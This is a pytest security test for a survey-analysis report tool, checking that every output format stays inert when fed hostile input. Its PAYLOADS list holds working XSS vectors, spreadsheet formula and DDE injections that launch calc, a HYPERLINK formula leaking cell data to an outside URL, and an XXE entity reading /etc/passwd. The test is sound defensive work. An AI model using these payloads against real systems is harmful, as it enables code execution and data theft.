"""Hostile input from end to end: nothing in any file that is written can run when it is opened."""

import csv
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from coproscan.formulas import FORMULA_STARTS
from coproscan.pipeline import analyse
from coproscan.report.editions import write_editions
from coproscan.report.themes_sheet import themes_sheet
from coproscan.settings import Settings
from coproscan.types import ThemesSheet

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style></script><svg onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "<a href='javascript:alert(1)'>here</a>",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt&colon;alert(1)) ![x](data:text/html,<script>alert(1)</script>)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "{{ 7 * 7 }} {% raw %} ${alert(1)}",
    '=HYPERLINK("https://example.org/?"&A1,"more buses")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "</w:t><w:instrText>DDEAUTO c:\\\\windows\\\\calc.exe</w:instrText>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "‮gnp.exe <b style=background:url(javascript:alert(1))>bold</b>",
)
MARKUP = "<script>alert(2)</script><img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    table = io.StringIO(newline="")
    writer = csv.writer(table)
    question = f"=1+1 What should change in the town? {MARKUP}"
    writer.writerow(["Response ID", f"=Ward {MARKUP}", question, "May we quote you?"])
    for number, payload in enumerate(PAYLOADS):
        ward = ("=North", f"+South {MARKUP}")[number % 2]
        answer = f"{payload} The buses in the town are late and the park is dark."
        writer.writerow([f"={number}", ward, answer, "Yes"])
        writer.writerow([f"@{number}b", ward, f"Parking is dear {payload}", "Yes"])
    (folder / "=answers <img src=x>.csv").write_text(table.getvalue(), newline="")
    notes = ["# Workshop <script>alert(3)</script>", "", "## =Table 1 [x](javascript:alert(3))", ""]
    notes += [f"- Not enough volunteers {' '.join(payload.split())}" for payload in PAYLOADS]
    (folder / "@notes.md").write_text("\n".join(notes))
    settings = Settings(
        quotes="permitted",
        # The fast model: what the themes are is not the point here.
        model="static",
        title=f"Town {MARKUP}",
        asked=f"=1+1 {MARKUP}",
        dates=MARKUP,
        decision=f"[x](javascript:alert(4)) {MARKUP}",
    )
    first = analyse([folder], settings)
    edited = tmp_path_factory.mktemp("edits") / "themes.toml"
    edited.write_text(themes_sheet(renamed(first.sheet)), encoding="utf-8")
    out = tmp_path_factory.mktemp("report")
    write_editions(analyse([folder], replace(settings, edits=str(edited))), out)
    return out


def renamed(sheet: ThemesSheet) -> ThemesSheet:
    """The sheet with every theme named by somebody who means harm."""
    return replace(
        sheet,
        themes=tuple(
            replace(theme, new_name=payload.strip(), why=MARKUP, by=f"=1+1 {MARKUP}")
            for theme, payload in zip(sheet.themes, PAYLOADS, strict=False)
        ),
        reviewer=f"=1+1 {MARKUP}",
        date="2026-04-02",
    )


class _Elements(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def inert_page(data: bytes) -> None:
    elements = _Elements(data.decode()).found
    tags = [tag for tag, _ in elements]
    assert tags.count("script") == 1  # ours, named by its hash in the page's own policy
    assert not {"img", "iframe", "object", "embed", "base", "foreignobject"} & set(tags)
    for tag, attributes in elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert tag != "meta" or (attributes.get("http-equiv") or "").lower() != "refresh"
        for name in ("href", "src", "action", "xlink:href", "srcdoc"):
            assert (attributes.get(name) or "#").startswith(("#", "data:,"))


def inert_markdown(data: bytes) -> None:
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(data.decode())
    for tag, attributes in _Elements(rendered).found:
        assert tag not in ("script", "img", "iframe", "svg", "meta", "object")
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        link = re.sub(r"[\s\x00-\x1f]", "", attributes.get("href") or "").lower()
        assert not link.startswith(("javascript:", "data:", "vbscript:"))


def inert_table(data: bytes) -> None:
    cells = [
        c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row
    ]
    assert len(cells) > 10
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def inert_workbook(data: bytes) -> None:
    import openpyxl

    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            assert not [cell for cell in row if cell.data_type == "f" or cell.hyperlink]


def inert_document(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            assert "vba" not in name.lower()
            assert "embeddings" not in name
            if name.endswith((".xml", ".rels")):
                tree = etree.fromstring(parts.read(name))
                assert 'TargetMode="External"' not in etree.tostring(tree).decode()
                fields = tree.xpath("//*[local-name()='instrText' or local-name()='fldSimple']")
                words = {"".join([f.text or "", *f.attrib.values()]).split()[0] for f in fields}
                # TOC lists the document's own headings, and reaches nothing outside it
                assert words <= {"PAGE", "NUMPAGES", "TOC"}


def inert_data(data: bytes) -> None:
    json.loads(data)


def inert_markup(data: bytes) -> None:
    tree = etree.fromstring(data).getroottree()
    assert not tree.docinfo.doctype
    assert not tree.xpath("//processing-instruction()")


def inert_archive(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            assert not name.startswith("/")
            assert ".." not in name
            if not name.endswith("/"):
                INERT[Path(name).suffix](parts.read(name))


def inert_lines(data: bytes) -> None:
    assert all(json.loads(line) for line in data.splitlines())


def inert_sheet(data: bytes) -> None:
    text = data.decode()
    assert tomllib.loads(text)["theme"]
    assert all(line.isprintable() for line in text.splitlines())


INERT: Mapping[str, Callable[[bytes], None]] = {
    ".html": inert_page,
    ".md": inert_markdown,
    ".csv": inert_table,
    ".xlsx": inert_workbook,
    ".docx": inert_document,
    ".json": inert_data,
    ".jsonl": inert_lines,
    ".qdc": inert_markup,
    ".qde": inert_markup,
    ".qdpx": inert_archive,
    ".toml": inert_sheet,
    ".txt": lambda data: None,
    ".zip": inert_archive,
    "": lambda data: None,  # the record: hashes and names of ours
}


def test_nothing_in_any_written_file_can_run(report: Path) -> None:
    files = [path for path in sorted(report.rglob("*")) if path.is_file()]
    assert {path.suffix for path in files} >= {".html", ".csv", ".docx", ".json", ".md"}
    for path in files:
        INERT[path.suffix](path.read_bytes())  # a new kind of file needs a check of its own


def test_the_hostile_words_are_there_as_words(report: Path) -> None:
    page = (report / "private" / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    analysis = json.loads((report / "private" / "analysis.json").read_bytes())
    assert any(theme["name"] == PAYLOADS[0] for theme in analysis["themes"])
    with (report / "private" / "ledger.csv").open(encoding="utf-8-sig", newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert any(text.startswith("'=HYPERLINK") for text in texts)
